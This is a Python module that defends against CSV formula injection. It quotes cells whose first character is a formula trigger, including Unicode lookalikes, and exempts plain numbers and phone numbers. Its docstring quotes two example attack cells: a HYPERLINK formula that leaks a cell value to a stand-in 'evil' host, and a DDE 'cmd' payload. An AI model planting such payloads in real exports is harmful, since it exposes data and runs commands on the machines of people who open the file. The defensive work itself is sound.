"""Spreadsheet-safe CSV cells (OWASP "CSV Injection" guidance).

A spreadsheet that opens a CSV treats a cell starting with ``=``, ``+``, ``-`` or ``@`` as a
formula, and a leading tab or carriage return can hide one. A contact list comes from outside
(a CRM export, a web form), so a cell such as ``=HYPERLINK("http://evil/?"&A1)`` or
``+cmd|' /C calc'!A0`` must not reach Excel as a formula. :func:`safe_cell` prefixes such a
cell with a single quote, which spreadsheets show as text, and leaves everything else exactly
as it was.

Spreadsheets in some locales normalise Unicode lookalikes of these characters (full-width
``＝ ＋ － ＠``, small ``﹦ ﹢ ﹣ ﹫``, super- and subscript ``⁺ ⁼ ₊ ₌``: every character whose NFKC
form starts with ``=``, ``+``, ``-`` or ``@``, and the minus sign ``−``) before evaluating a
cell, so a cell starting with one of them is neutralised too.

Two kinds of cells that start with ``+`` or ``-`` are left alone because they are data people
need intact and cannot carry a formula: plain numbers (``-12.5``, ``+3``, ``1e-3`` forms) and
phone numbers (``+919876543210``, ``+1 (555) 123-4567``: a sign, then only digits, spaces,
dots, dashes and parentheses). Neither can name a function, a DDE target (``|``) or a
reference (``!``), so neither can run anything.

Neutralising is lossless: the original value is the cell without its first character.
"""

from __future__ import annotations

import re
from collections.abc import Iterable

#: Lookalikes a spreadsheet may normalise into a trigger: the characters whose NFKC form
#: starts with ``=``, ``+``, ``-`` or ``@`` (tests/test_csvsafe.py recomputes the list from
#: the Unicode database), and U+2212 MINUS SIGN, which some spreadsheets read as a minus.
LOOKALIKE_TRIGGERS = frozenset(
    "\uff1d\uff0b\uff0d\uff20"  # full-width = + - @
    "\ufe66\ufe62\ufe63\ufe6b"  # small = + - @
    "\u207a\u207c\u208a\u208c"  # superscript + =, subscript + =
    "\u2a75\u2a76\ufb29"  # two and three consecutive equals signs, Hebrew alternative plus
    "\u2212"  # minus sign
)
#: Characters that make a spreadsheet read a cell as a formula (or hide one).
FORMULA_TRIGGERS = frozenset("=+-@\t\r") | LOOKALIKE_TRIGGERS
#: The characters after which the cell may still be a plain number or a phone number.
_SIGNS = frozenset("+-")

# ASCII digits only: other scripts' digits are not numbers to a spreadsheet
_PLAIN_NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?", re.ASCII)
_PHONE = re.compile(r"[+-][\d ().\-]*\d[\d ().\-]*", re.ASCII)
_NUMBER_OR_PHONE = re.compile(f"{_PHONE.pattern}|{_PLAIN_NUMBER.pattern}", re.ASCII)


def is_plain_number(value: str) -> bool:
    """``-12.5``, ``+3``, ``.5``, ``1e-3``: a decimal number and nothing else."""
    return _PLAIN_NUMBER.fullmatch(value) is not None


def is_phone_like(value: str) -> bool:
    """A sign followed only by digits and phone punctuation (space, dot, dash, parentheses)."""
    return _PHONE.fullmatch(value) is not None


def needs_quote(value: str) -> bool:
    """True when a spreadsheet could read ``value`` as a formula."""
    if not value or value[0] not in FORMULA_TRIGGERS:
        return False
    if value[0] in _SIGNS:
        rest = value[1:].replace(" ", "")
        if rest.isdigit() and rest.isascii():  # fast path: E.164, "+91 98765 43210", integers
            return False
        return _NUMBER_OR_PHONE.fullmatch(value) is None
    return True


def safe_cell(value: str) -> str:
    """``value`` unchanged, or prefixed with ``'`` when it could run as a formula."""
    if value and value[0] in FORMULA_TRIGGERS and needs_quote(value):
        return "'" + value
    return value


def safe_row(cells: Iterable[str]) -> list[str]:
    """:func:`safe_cell` applied to every cell (the hot path of the report writer)."""
    triggers = FORMULA_TRIGGERS
    return [c if not c or c[0] not in triggers else safe_cell(c) for c in cells]
